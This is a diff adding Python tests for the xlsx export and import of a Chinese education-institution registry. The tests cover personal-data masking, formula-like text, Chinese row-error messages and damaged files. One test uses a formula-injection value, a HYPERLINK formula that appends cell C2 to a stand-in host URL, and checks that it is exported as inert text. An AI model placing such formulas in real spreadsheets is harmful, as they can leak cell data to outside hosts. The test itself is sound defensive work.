@@ -243,3 +243,72 @@ async def test_concurrent_imports_of_the_same_file_never_duplicate(http, gql, de
     assert outcomes in ([(0, 0, ["DUPLICATE"]), (2, 0, [])], [(0, 2, []), (2, 0, [])])
     async with sessionmaker() as db:
         assert (await db.execute(sa.select(sa.func.count()).select_from(Institution))).scalar() == 2
+
+
+async def exported(http, token: str) -> list[tuple]:
+    response = await http.get("/exports/institutions.xlsx", headers={"Authorization": f"Bearer {token}"})
+    assert response.status_code == 200, response.text
+    wb = load_workbook(io.BytesIO(response.content), read_only=True)
+    try:
+        return list(wb[DATA_SHEET].iter_rows(values_only=True))
+    finally:
+        wb.close()
+
+
+async def test_exports_mask_personal_data_except_for_the_county_desk(http, gql, demo):
+    county = await gql.login("edu-440106")
+    await register(gql, county, 1, parts=())
+    columns = [HEADERS.index(h) for h in ("法定代表人身份证号 *", "法定代表人手机号 *", "联系人手机号 *")]
+    own = (await exported(http, county))[1]
+    assert [own[i] for i in columns] == [ID_NUMBER, "13800138000", "13900139000"]
+    for username in ("edu-440100", "edu-440000", "edu-000000"):
+        row = (await exported(http, await gql.login(username)))[1]
+        assert [row[i] for i in columns] == ["110***********002X", "138****8000", "139****9000"], username
+
+
+async def test_text_that_looks_like_a_formula_is_exported_as_text_and_round_trips(http, gql, demo, sessionmaker):
+    county = await gql.login("edu-440106")
+    await register(gql, county, 1, parts=(), name='=HYPERLINK("http://x.example/"&C2,"点此")')
+    response = await http.get("/exports/institutions.xlsx", headers={"Authorization": f"Bearer {county}"})
+    with io.BytesIO(response.content) as raw:
+        import zipfile
+
+        sheet_xml = zipfile.ZipFile(raw).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    result = await upload(http, county, response.content)
+    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 1, "errors": []}}}
+    async with sessionmaker() as db:
+        assert (await db.execute(sa.select(Institution.name))).scalar_one() == '=HYPERLINK("http://x.example/"&C2,"点此")'
+
+
+async def test_odd_cells_are_row_errors_in_chinese(http, gql, demo):
+    county = await gql.login("edu-440106")
+    rows = [
+        row(1, **{**FULL_PARTS, "在读学生数": "²"}),
+        row(2, **{**FULL_PARTS, "建筑面积（平方米）": "1e9999999"}),
+        row(3, **{**FULL_PARTS, "办学许可证有效期起": "明年"}),
+        row(4, **{"机构名称 *": "换行\n名称"}),
+    ]
+    result = await upload(http, county, fill(await template(http, county), rows))
+    assert [(e["row"], e["column"], e["code"], e["message"]) for e in result["data"]["importInstitutions"]["errors"]] == [
+        (2, "在读学生数", "INVALID", "在读学生数应为不小于 0 的整数"),
+        (3, "建筑面积（平方米）", "INVALID", "建筑面积（平方米）应为数字"),
+        (4, "办学许可证有效期起", "INVALID", "办学许可证有效期起应为日期，格式 YYYY-MM-DD"),
+        (5, "机构名称 *", "INVALID", "机构名称不能包含换行、制表符等控制字符"),
+    ]
+
+
+async def test_a_damaged_xlsx_is_not_xlsx(http, gql, demo):
+    import zipfile
+
+    county = await gql.login("edu-440106")
+    good = fill(await template(http, county), [row(1)])
+    for damaged_part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml"):
+        source = zipfile.ZipFile(io.BytesIO(good))
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w") as target:
+            for item in source.infolist():
+                data = source.read(item.filename)
+                target.writestr(item, data[: len(data) // 2] if item.filename == damaged_part else data)
+        result = await upload(http, county, out.getvalue())
+        assert [e["code"] for e in result["data"]["importInstitutions"]["errors"]] == ["NOT_XLSX"], damaged_part
